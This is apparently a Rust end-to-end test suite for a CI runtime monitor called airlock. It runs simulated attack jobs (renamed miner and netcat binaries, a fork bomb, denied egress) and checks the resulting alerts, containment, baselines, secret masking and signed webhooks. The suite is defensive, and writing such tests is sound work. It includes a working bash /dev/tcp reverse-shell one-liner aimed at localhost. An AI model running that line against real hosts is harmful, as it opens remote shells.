//! End-to-end tests of runtime monitoring: the real `airlock` binary runs
//! jobs that behave like attacks, and the alerts, containments, baselines
//! and alert deliveries they cause are read back from `runs show --json`,
//! the audit log and a real webhook receiver on 127.0.0.1.
#![allow(clippy::unwrap_used)]

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use common::{assert_no_file_holds, job, set_secret, upstream, World};
use serde_json::Value;

/// The rule ids of a job's alerts in `runs show --json`.
fn alerts(show: &Value, id: &str) -> Vec<String> {
    job(show, id)["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["rule"].as_str().unwrap().to_string())
        .collect()
}

fn pipeline_with(jobs: &str) -> String {
    format!("version: 1\nname: attacks\njobs:\n{jobs}")
}

#[test]
fn e2e_attack_jobs_raise_the_expected_alerts_and_a_clean_job_none() {
    let w = World::new();
    // Each job does one thing an attacker would; none of them needs more
    // than the host's own binaries (a miner or netcat is a renamed copy of
    // a harmless one: the rules look at what runs, not at what it does).
    // Each lives long enough for its exec to be read whole.
    let file = w.pipeline(
        "attacks.yml",
        &pipeline_with(
            r#"  clean:
    steps:
      - run: |
          echo building
          mkdir -p /workspace/out && cp /etc/os-release /workspace/out/
          sh -c 'ls /src > /dev/null'
          cat /workspace/out/os-release | head -n 1
  miner:
    steps:
      - run: cp /bin/sleep /workspace/xmrig && /workspace/xmrig 30
  netcat:
    steps:
      - run: cp /bin/dash /workspace/nc && /workspace/nc -c 'sleep 1; true' -l -p 4444
  reverse-shell:
    steps:
      - run: bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' || true
  egress:
    network: { egress: ["allowed.test:443"] }
    steps:
      - run: curl -s -o /dev/null http://denied.test/ || true
  fork-bomb:
    resources: { pids: 24 }
    steps:
      - run: |
          for i in $(seq 60); do sleep 3 & done 2>/dev/null
          wait
  oom:
    resources: { memory: 32MiB }
    steps:
      - run: python3 -c 'b = bytearray(256 * 1024 * 1024); print(len(b))'
"#,
        ),
    );
    let (r, doc) = w.run_json(&file, &["--parallel", "2"]);
    assert_eq!(r.code, 1, "attack jobs fail: {}", r.stderr);
    let show = w.show(&doc["run"].to_string());
    assert_eq!(
        alerts(&show, "clean"),
        Vec::<String>::new(),
        "a clean job raises nothing"
    );
    assert_eq!(job(&show, "clean")["status"], "success");
    // And its activity is recorded.
    let clean = job(&show, "clean");
    assert!(clean["execs"].as_u64().unwrap() >= 4, "{clean}");
    // Root watches with perf events: the record says, process by process,
    // that the arguments were read at the exec (nearly always; see
    // docs/SECURITY.md for when they are read from /proc instead).
    let procs = clean["processes"].as_array().unwrap();
    assert!(
        procs.iter().all(|p| p["argv_at_exec"].is_boolean()),
        "{clean}"
    );
    assert!(procs.iter().any(|p| p["argv_at_exec"] == true), "{clean}");
    assert!(clean["files"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["path"] == "/workspace/out/os-release"));

    for (id, rule) in [
        ("miner", "crypto-miner-binary"),
        ("netcat", "netcat-listener"),
        ("reverse-shell", "reverse-shell-dev-tcp"),
        ("egress", "egress-denied"),
        ("fork-bomb", "pids-limit-hit"),
        ("oom", "out-of-memory"),
    ] {
        let raised = alerts(&show, id);
        assert!(
            raised.iter().any(|r| r == rule),
            "job {id} should raise {rule}, raised {raised:?}\n{}",
            r.stderr
        );
    }
    // The miner rule's action is kill: the 30 s job was contained.
    let miner = job(&show, "miner");
    assert_eq!(miner["status"], "contained", "{miner}");
    assert!(miner["duration_ms"].as_u64().unwrap() < 20_000, "{miner}");
    // Alerts are in the audit log too, and the log verifies.
    let audit = w.airlock(&["audit", "show", "--json"]);
    assert!(audit.stdout.contains("\"alert\""), "{}", audit.stdout);
    assert_eq!(w.airlock(&["audit", "verify"]).code, 0);
}

/// A job that gives its processes megabytes of arguments (the kernel
/// allows about 2 MiB) gets them recorded cut to 4 KiB each, saying how
/// long they were: a thousand such processes must not put gigabytes in
/// the run record.
#[test]
fn e2e_long_arguments_are_recorded_cut() {
    let w = World::new();
    let file = w.pipeline(
        "long.yml",
        &pipeline_with(
            r#"  long:
    steps:
      - run: |
          a=$(head -c 120000 /dev/zero | tr '\0' a)
          sh -c 'sleep 0.3; true' long-args "$a" "$a" "$a" "$a" "$a" "$a" "$a" "$a"
"#,
        ),
    );
    let (r, doc) = w.run_json(&file, &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let show = w.show(&doc["run"].to_string());
    let procs = job(&show, "long")["processes"].as_array().unwrap();
    let long = procs
        .iter()
        .map(|p| p["argv"].as_str().unwrap())
        .find(|a| a.starts_with("sh -c sleep 0.3; true long-args"))
        .unwrap_or_else(|| panic!("no record of the long process: {procs:#?}"));
    assert!(long.len() < 4096 + 64, "{} bytes recorded", long.len());
    assert!(
        long.ends_with("(960039 bytes in all)"),
        "{}",
        &long[long.len() - 60..]
    );
}

/// The report of the files a job left in its workspace names them as the
/// job did: a secret (or a value it registered) in a file's name is
/// masked there, as in its output, and reaches no file of the state
/// directory.
#[test]
fn e2e_secrets_in_file_names_are_masked_in_the_workspace_report() {
    let w = World::new();
    let secret = "fname-s3cret-value-77";
    set_secret(&w, "FNAME", secret, "attacks/*");
    // The registered value is built in the job: the pipeline's text does
    // not hold it.
    let value = "reg42-filename-value";
    let file = w.pipeline(
        "names.yml",
        &pipeline_with(
            r#"  names:
    secrets: [{ name: FNAME, env: FNAME }]
    steps:
      - run: |
          touch "/workspace/cache-$FNAME.txt"
          v="reg$((40 + 2))-filename-value"
          printf '%s\n' "$v" > /run/airlock/mask
          touch "/workspace/$v.dat" /workspace/plain.txt
"#,
        ),
    );
    let (r, doc) = w.run_json(&file, &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let show = w.show(&doc["run"].to_string());
    let mut paths: Vec<&str> = job(&show, "names")["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    paths.sort_unstable();
    assert_eq!(
        paths,
        [
            "/workspace/***.dat",
            "/workspace/cache-***.txt",
            "/workspace/plain.txt"
        ]
    );
    assert_no_file_holds(w.home.path(), &[secret, value]);
}

#[test]
fn e2e_a_new_endpoint_after_two_clean_runs_raises_an_alert() {
    let w = World::new();
    let (a, b) = (upstream(), upstream());
    let file = w.pipeline(
        "fetch.yml",
        &format!(
            "version: 1\nname: fetch\njobs:\n  get:\n    network: {{ egress: [\"{a}\", \"{b}\"] }}\n    steps:\n      - run: |\n          curl -sf --noproxy '' http://{a}/one\n          if [ -e /src/more ]; then curl -sf --noproxy '' http://{b}/two; fi\n"
        ),
    );
    for round in 0..2 {
        let (r, doc) = w.run_json(&file, &[]);
        assert_eq!(r.code, 0, "clean run {round}: {}", r.stderr);
        let show = w.show(&doc["run"].to_string());
        assert_eq!(alerts(&show, "get"), Vec::<String>::new(), "learning");
    }
    let base = w.airlock(&["baseline", "show", "fetch/get", "--json"]);
    let base: Value = serde_json::from_str(&base.stdout).unwrap();
    assert_eq!(base[0]["runs"], 2);
    assert_eq!(base[0]["endpoints"][0], a.to_string());

    // Same job, one more endpoint.
    std::fs::write(file.parent().unwrap().join("more"), "").unwrap();
    let (r, doc) = w.run_json(&file, &[]);
    assert_eq!(
        r.code, 0,
        "an alert-only rule does not fail the job: {}",
        r.stderr
    );
    let show = w.show(&doc["run"].to_string());
    let raised = alerts(&show, "get");
    assert_eq!(raised, vec!["new-endpoint".to_string()], "{show}");
    let alert = &job(&show, "get")["alerts"][0];
    assert!(
        alert["summary"].as_str().unwrap().contains(&b.to_string()),
        "{alert}"
    );

    // A reset forgets it: the next run learns again, no alert.
    let reset = w.airlock(&["baseline", "reset", "fetch"]);
    assert_eq!(reset.code, 0, "{}", reset.stderr);
    let (_, doc) = w.run_json(&file, &[]);
    assert!(alerts(&w.show(&doc["run"].to_string()), "get").is_empty());
    let audit = w.airlock(&["audit", "show", "--json"]);
    assert!(audit.stdout.contains("baseline_reset"));
}

#[test]
fn e2e_a_kill_rule_contains_the_job_revokes_its_leases_and_records_the_tree() {
    let w = World::new();
    set_secret(&w, "TOKEN", "s3cr3t-value-for-containment", "contain/*");
    let rules = w.files.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("stop.yaml"),
        r#"- id: stop-marker
  severity: high
  description: The job ran the marker that this test forbids.
  on: exec
  when:
    argv: { contains: forbidden-marker }
  action: kill
"#,
    )
    .unwrap();
    let file = w.pipeline(
        "contain.yml",
        // The marker is put together at run time: the step's own script
        // must not match the rule, only the child shell it starts.
        "version: 1\nname: contain\njobs:\n  long:\n    secrets: [TOKEN]\n    steps:\n      - run: |\n          sleep 60 &\n          sleep 1\n          M=forbidden\n          sh -c \"echo $M-marker; sleep 60\"\n          echo not-reached\n",
    );
    let started = Instant::now();
    let (r, doc) = w.run_json(&file, &["--rules", rules.to_str().unwrap()]);
    let wall = started.elapsed();
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        wall < Duration::from_secs(30),
        "contained, not run out: {wall:?}"
    );
    assert!(!r.stderr.contains("│ not-reached"), "{}", r.stderr);
    let show = w.show(&doc["run"].to_string());
    let long = job(&show, "long");
    assert_eq!(long["status"], "contained", "{long}");
    assert!(long["reason"].as_str().unwrap().contains("stop-marker"));
    let incident = &long["incidents"][0];
    assert_eq!(incident["rule"], "stop-marker");
    // The frozen tree: the shell of the step, the background sleep and the
    // child shell that ran the marker, linked by their parents.
    let procs = incident["processes"].as_array().unwrap();
    let argv: Vec<&str> = procs.iter().map(|p| p["argv"].as_str().unwrap()).collect();
    // The frozen tree is read from /proc, and says so.
    assert!(
        procs.iter().all(|p| p["argv_at_exec"] == false),
        "{procs:?}"
    );
    assert!(argv.contains(&"sleep 60"), "{argv:?}");
    let marker = procs
        .iter()
        .find(|p| p["argv"].as_str().unwrap().contains("forbidden-marker"))
        .unwrap_or_else(|| panic!("the marker's shell is in the tree: {argv:?}"));
    assert!(
        procs.iter().any(|p| p["pid"] == marker["ppid"]),
        "its parent is in the tree too: {procs:?}"
    );
    println!("contained in {} ms", incident["took_ms"]);
    // Its lease is revoked, and the secret never shows.
    let leases = w.airlock(&["secrets", "leases", "--json"]);
    let leases: Value = serde_json::from_str(&leases.stdout).unwrap();
    assert!(
        leases
            .as_array()
            .unwrap()
            .iter()
            .all(|l| l["state"] == "revoked"),
        "{leases}"
    );
    assert!(!show.to_string().contains("s3cr3t-value-for-containment"));
}

/// An HTTP receiver on 127.0.0.1 that answers 500 to the first request
/// and 200 after, and passes each request's headers and body on.
/// One request the receiver got: its headers (names lowercased) and body.
type Request = (Vec<(String, String)>, Vec<u8>);

fn receiver() -> (u16, mpsc::Receiver<Request>) {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for (n, conn) in listener.incoming().flatten().enumerate() {
            let mut reader = BufReader::new(&conn);
            let mut headers = Vec::new();
            let mut line = String::new();
            let _ = reader.read_line(&mut line);
            loop {
                line.clear();
                if reader.read_line(&mut line).unwrap_or(0) <= 2 {
                    break;
                }
                if let Some((k, v)) = line.trim_end().split_once(':') {
                    headers.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
                }
            }
            let len: usize = headers
                .iter()
                .find(|(k, _)| k == "content-length")
                .map_or(0, |(_, v)| v.parse().unwrap());
            let mut body = vec![0; len];
            reader.read_exact(&mut body).unwrap();
            let status = if n == 0 {
                "500 Internal Server Error"
            } else {
                "200 OK"
            };
            let mut conn = &conn;
            let _ = write!(
                conn,
                "HTTP/1.1 {status}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
            let _ = tx.send((headers, body));
        }
    });
    (port, rx)
}

#[test]
fn e2e_alerts_reach_a_signed_webhook_after_a_retry() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let key = w.files.path().join("webhook.key");
    std::fs::write(&key, "a-key-only-the-receiver-knows").unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let (port, rx) = receiver();
    let file = w.pipeline(
        "hook.yml",
        "version: 1\nname: hook\njobs:\n  scan:\n    steps:\n      - run: cp /bin/sleep /workspace/nmap && /workspace/nmap 0.5\n",
    );
    let url = format!("http://127.0.0.1:{port}/alerts");
    let (r, _) = w.run_json(
        &file,
        &[
            "--alert-webhook",
            &url,
            "--alert-webhook-key",
            key.to_str().unwrap(),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let (first_headers, first_body) = rx.recv_timeout(Duration::from_secs(10)).unwrap();
    let (headers, body) = rx.recv_timeout(Duration::from_secs(10)).unwrap();
    assert_eq!(first_body, body, "the retry sends the same alert");
    let get = |h: &[(String, String)], k: &str| {
        h.iter()
            .find(|(n, _)| n == k)
            .map(|(_, v)| v.clone())
            .unwrap()
    };
    assert_eq!(
        get(&first_headers, "x-airlock-delivery"),
        get(&headers, "x-airlock-delivery")
    );
    // The signature checks out with the key, computed independently.
    let timestamp = get(&headers, "x-airlock-timestamp");
    let signature = get(&headers, "x-airlock-signature");
    assert!(monitor::notify::verify(
        b"a-key-only-the-receiver-knows",
        &timestamp,
        &body,
        &signature
    ));
    assert!(!monitor::notify::verify(
        b"another key",
        &timestamp,
        &body,
        &signature
    ));
    let alert: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(alert["rule"], "network-tool-binary");
    assert_eq!(alert["pipeline"], "hook");
    assert_eq!(alert["job"], "scan");
}
